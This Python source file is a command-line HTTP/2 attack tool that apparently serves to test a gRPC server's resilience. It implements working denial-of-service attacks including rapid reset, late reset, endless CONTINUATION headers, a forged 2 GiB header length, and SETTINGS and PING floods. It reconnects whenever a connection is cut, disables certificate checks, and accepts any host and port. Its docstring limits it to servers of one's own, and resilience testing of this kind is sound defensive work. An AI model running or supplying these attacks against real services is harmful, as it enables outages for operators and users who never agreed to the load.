"""What an attacker sends over HTTP/2, as a program of its own, so that it takes no time from whoever
measures:

    attacks.py KIND HOST:PORT [--plain] [--seconds N] [--connections N] [--source ADDRESS]
               [--mib-per-second N]

Over each connection it sends as fast as it is let, or as it is told; whenever one is cut it opens
another. The last line of standard output is what became of it, in JSON. For servers of your own only.
"""
import argparse
import itertools
import json
import socket
import ssl
import time

import hpack
from hyperframe.frame import (ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK_BYTES = 64 << 10
# All connections together; more than any of them needs, so that only --mib-per-second holds.
UNPACED_MIB_PER_SECOND = 1 << 20
CONNECT_SECONDS = 5
CALL = [(":method", "POST"), (":scheme", "https"),
        (":path", "/tiermark.v1.AccountService/GetAccount"), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers")]


def call_headers(*more):
    """A call's headers, leaving nothing in the table of the other side."""
    return hpack.Encoder().encode([*CALL, *more], huffman=False)


def headers_frame(stream, block, *flags):
    frame = HeadersFrame(stream, data=block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def repeat(frames):
    """The same frames for ever, in chunks worth a write."""
    chunk = frames * max(1, CHUNK_BYTES // len(frames))
    return itertools.repeat(chunk)


def preface():
    return PREFACE + SettingsFrame(0).serialize()


def rapid_reset():
    """Opens a call and takes it back at once, a thousand in a row."""
    block = call_headers()
    yield preface()
    for first in itertools.count(1, 2000):
        yield b"".join(headers_frame(stream, block, "END_HEADERS") +
                       RstStreamFrame(stream, error_code=8).serialize()
                       for stream in range(first, first + 2000, 2))


def late_reset():
    """Opens as many calls as it may and takes them back when they have got through."""
    block = call_headers()
    yield preface()
    for first in itertools.count(1, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(headers_frame(stream, block, "END_HEADERS") for stream in streams)
        yield 0.005
        yield b"".join(RstStreamFrame(stream, error_code=8).serialize() for stream in streams)


def endless_headers():
    """A header block that goes on and on."""
    yield preface() + headers_frame(1, call_headers())
    frame = ContinuationFrame(1, data=hpack.Encoder().encode(
        [(f"x-{i}", "y" * 100) for i in range(100)], huffman=False))
    yield from repeat(frame.serialize())


def endless_string():
    """One header whose value is said to have 2 GiB, and comes in small pieces."""
    start = call_headers() + b"\x00\x03x-a\x7f\x80\xff\xff\xff\x07"
    yield preface() + headers_frame(1, start)
    yield from repeat(ContinuationFrame(1, data=b"y" * 64).serialize())


def empty_continuations():
    """A header block that goes on with nothing."""
    yield preface() + headers_frame(1, call_headers())
    yield from repeat(ContinuationFrame(1).serialize())


def settings():
    yield preface()
    yield from repeat(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535,
                                                 SettingsFrame.HEADER_TABLE_SIZE: 0}).serialize())


def ping():
    yield preface()
    yield from repeat(PingFrame(0, opaque_data=b"pingping").serialize())


KINDS = {f.__name__: f for f in (rapid_reset, late_reset, endless_headers, endless_string,
                                 empty_continuations, settings, ping)}


def connect(address, source=None, tls=True):
    host, port = address.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=CONNECT_SECONDS,
                                   source_address=(source, 0) if source else None)
    if not tls:
        return raw
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(raw)


class Attacker:
    """One connection after the other, each until it is cut."""

    def __init__(self, kind, address, source, tls):
        self._kind, self._address, self._source, self._tls = kind, address, source, tls
        self.connections = self.cut = self.refused = self.sent = 0
        self.longest_seconds = 0.0
        self._socket = self._chunks = None
        self._pending = b""
        self._pause_until = 0.0

    def step(self, writes):
        """Sends, if it `writes`, and takes what there is to; whether anything moved."""
        if self._socket is None:
            return self._open()
        try:
            return (writes and self._write()) | self._read()
        except OSError:
            self.cut += 1
            self.close()
            return True

    def _open(self):
        try:
            self._socket = connect(self._address, self._source, self._tls)
        except OSError:
            self.refused += 1
            self._pause_until = time.monotonic() + 0.05
            time.sleep(0.05)
            return False
        self._socket.setblocking(False)
        self._chunks, self._pending = KINDS[self._kind](), b""
        self.connections += 1
        self._opened = time.monotonic()
        return True

    def _write(self):
        if not self._pending:
            if time.monotonic() < self._pause_until:
                return False
            chunk = next(self._chunks)
            if isinstance(chunk, float):
                self._pause_until = time.monotonic() + chunk
                return False
            self._pending = memoryview(chunk)
        try:
            count = self._socket.send(self._pending)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        self.sent += count
        self._pending = self._pending[count:]
        return True

    def _read(self):
        try:
            if not self._socket.recv(CHUNK_BYTES):
                raise ConnectionResetError
            return True
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False

    def close(self):
        if self._socket is not None:
            self.longest_seconds = max(self.longest_seconds, time.monotonic() - self._opened)
            self._socket.close()
            self._socket = None


def attack(kind, address, seconds, connections=4, source=None, tls=True,
           mib_per_second=UNPACED_MIB_PER_SECOND):
    attackers = [Attacker(kind, address, source, tls) for _ in range(connections)]
    start = time.monotonic()
    while (passed := time.monotonic() - start) < seconds:
        ahead = sum(a.sent for a in attackers) > passed * mib_per_second * 2**20
        if not any([attacker.step(writes=not ahead) for attacker in attackers]):
            time.sleep(0.0005)
    for attacker in attackers:
        attacker.close()
    return {"kind": kind, "connections": sum(a.connections for a in attackers),
            "cut": sum(a.cut for a in attackers), "refused": sum(a.refused for a in attackers),
            "sent_mib": round(sum(a.sent for a in attackers) / 2**20, 1),
            "longest_seconds": round(max(a.longest_seconds for a in attackers), 2)}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address")
    parser.add_argument("--plain", action="store_true")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--source")
    parser.add_argument("--mib-per-second", type=float, default=UNPACED_MIB_PER_SECOND)
    given = parser.parse_args()
    print(json.dumps(attack(given.kind, given.address, given.seconds, given.connections,
                            given.source, not given.plain, given.mib_per_second)))


if __name__ == "__main__":
    main()
